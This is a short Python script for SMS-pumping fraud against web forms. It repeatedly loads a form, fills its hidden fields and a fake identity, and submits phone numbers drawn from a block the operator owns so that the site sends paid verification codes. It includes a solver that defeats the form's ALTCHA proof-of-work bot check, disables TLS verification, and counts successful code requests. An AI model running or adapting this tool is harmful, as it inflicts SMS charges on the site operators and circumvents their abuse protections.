"""Somebody who owns a block of numbers and has codes sent to them: a program that opens a form again and again."""

import base64
import hashlib
import json
import re
import secrets
from html import unescape
from itertools import count
from typing import Any

import httpx2

MOST = 20
_HIDDEN = re.compile(r'<input type="hidden" name="([^"]+)"(?: value="([^"]*)")?')
_CHALLENGE = re.compile(r'data-challenge="([^"]+)"')
_PATIENCE = 20.0


def pump(form_url: str, block: str, times: int) -> int:
    """Ask so many times for a code, each to another number of the block; return how often the app asked for the code.

    form_url: where a page's form is open for a time.  block: how the numbers begin, as in "+491512345".
    """
    asked = 0
    with httpx2.Client(timeout=_PATIENCE, trust_env=False, verify=False) as browser:
        for _ in range(min(times, MOST)):
            number = f"{block}{secrets.randbelow(10_000):04}"
            asked += _ask(browser, form_url, number)
    return asked


def _ask(browser: httpx2.Client, form_url: str, number: str) -> bool:
    try:
        text = browser.get(form_url).text
        fields = {name: unescape(value) for name, value in _HIDDEN.findall(text)}
        typed = {"name": "Pat Pump", "email": f"{secrets.token_hex(6)}@pump.example", "phone": number}
        fields |= typed | {"phone_country": "DE", "notes": "", "guests": ""}
        if found := _CHALLENGE.search(text):
            fields["proof"] = solved(json.loads(unescape(found[1])))
        answer = browser.post(form_url, data=fields, headers={"Referer": form_url})
    except httpx2.HTTPError:
        return False
    return 'name="text_code"' in answer.text


def solved(challenge: dict[str, Any]) -> str:
    """Do the work that a browser is asked for (ALTCHA, version 2, PBKDF2), and return what it sends."""
    asked = challenge["parameters"]
    nonce, salt = bytes.fromhex(asked["nonce"]), bytes.fromhex(asked["salt"])
    for counter in count():
        password = nonce + counter.to_bytes(4, "big")
        key = hashlib.pbkdf2_hmac("sha256", password, salt, asked["cost"], 32).hex()
        if key.startswith(asked["keyPrefix"]):
            break
    found = {"counter": counter, "derivedKey": key}
    return base64.b64encode(json.dumps({"challenge": challenge, "solution": found}).encode()).decode()
